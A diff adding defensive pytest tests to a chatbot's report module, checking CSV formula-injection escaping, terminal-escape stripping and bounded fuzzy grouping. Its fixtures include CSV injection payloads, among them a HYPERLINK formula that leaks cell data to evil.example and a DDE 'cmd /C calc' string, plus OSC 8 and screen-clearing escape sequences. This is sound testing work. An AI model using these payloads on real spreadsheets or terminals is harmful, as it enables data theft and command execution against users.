@@ -6,12 +6,15 @@ import csv
 import datetime as dt
 import io
 import json
+import random
+from types import SimpleNamespace
 
 import pytest
+from rapidfuzz import fuzz
 from test_cli import run
 
 from bot import report
-from bot.store import Store, open_store
+from bot.store import Store, Unanswered, open_store
 
 NOV = dt.datetime(2026, 11, 2, 1, tzinfo=dt.UTC)  # 10:00 in Japan
 
@@ -117,3 +120,83 @@ def test_an_unknown_group_is_an_error_that_says_what_to_use(store, capsys, monke
 def test_an_empty_store_says_so(capsys, monkeypatch):
     code, out, _ = run(capsys, monkeypatch, "report")
     assert code == 0 and "未回答の質問はありません" in out
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def test_csv_cells_from_residents_never_start_a_formula(capsys, monkeypatch, _own_database):
+    store = open_store(f"sqlite:///{_own_database}")
+    for text in HOSTILE:
+        store.record_unanswered(text=text, normalized=text, candidates=[], kind="fallback",
+                                answer_id=None, score=5.0, resident="k1", at=NOV)
+
+    _, out, _ = run(capsys, monkeypatch, "report", "--csv")
+
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    examples = [row[f"example_{n}"] for row in rows for n in (1, 2, 3) if row[f"example_{n}"]]
+    assert sorted(examples) == sorted("'" + text for text in HOSTILE)  # shown as text, kept whole
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
+                   for row in csv.reader(io.StringIO(out, newline="")) for cell in row)
+
+
+def test_the_text_report_prints_no_terminal_escape_sequence(capsys, monkeypatch, _own_database):
+    store = open_store(f"sqlite:///{_own_database}")
+    link = "\x1b]8;;http://evil.example/\x1b\\住民票\x1b]8;;\x1b\\"  # OSC 8: a link showing 住民票
+    for text in (link, "\x1b[2J\x1b[H画面を消す", "改行\nして\x07ベル\x9b31mC1"):
+        store.record_unanswered(text=text, normalized=text, candidates=[], kind="fallback",
+                                answer_id=None, score=5.0, resident="k1", at=NOV)
+
+    _, out, _ = run(capsys, monkeypatch, "report")
+
+    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
+    assert "「住民票」" in out and "「画面を消す」" in out and "「改行 してベルC1」" in out
+    assert "evil.example" not in out
+
+
+def test_grouping_compares_each_wording_with_a_bounded_number_of_leaders(monkeypatch):
+    # Distinct texts from any LINE friend each became a leader that every later wording
+    # was compared with: n wordings, n²/2 comparisons (20,000: 81 s per /admin view).
+    calls = 0
+
+    def ratio(a: str, b: str, **_: object) -> float:
+        nonlocal calls
+        calls += 1
+        return fuzz.ratio(a, b)
+
+    monkeypatch.setattr(report, "fuzz", SimpleNamespace(ratio=ratio))
+    monkeypatch.setattr(report, "LEADERS_COMPARED", 40, raising=False)
+    rows = [store_row(n, text) for n, text in enumerate(random_wordings(800, seed=7), start=1)]
+
+    groups = report.group(rows)
+
+    assert sum(g.count for g in groups) == 800
+    assert calls <= 800 * 40  # was 800 * 799 / 2 = 319,600
+
+
+def test_a_wording_like_a_frequent_group_still_joins_it_among_many_others():
+    rows = [store_row(n, text) for n, text in enumerate(random_wordings(1000, seed=8), start=1)]
+    rows += [store_row(2000 + n, "粗大ゴミノ出シ方") for n in range(3)]
+    rows.append(store_row(3000, "粗大ゴミノ出シ方ハ"))
+
+    gomi = report.group(rows)[0]
+
+    assert gomi.count == 4 and gomi.normalized == "粗大ゴミノ出シ方"
+
+
+def random_wordings(count: int, seed: int) -> list[str]:
+    chance = random.Random(seed)
+    return ["".join(chance.choice("アイウエオカキクケコサシスセソ") for _ in range(20)) for _ in range(count)]
+
+
+def store_row(number: int, normalized: str) -> Unanswered:
+    return Unanswered(number, "2026-11-02T01:00:00.000000Z", "line", normalized, normalized, (), "fallback",
+                      None, 10.0, f"k{number}", "new", None)
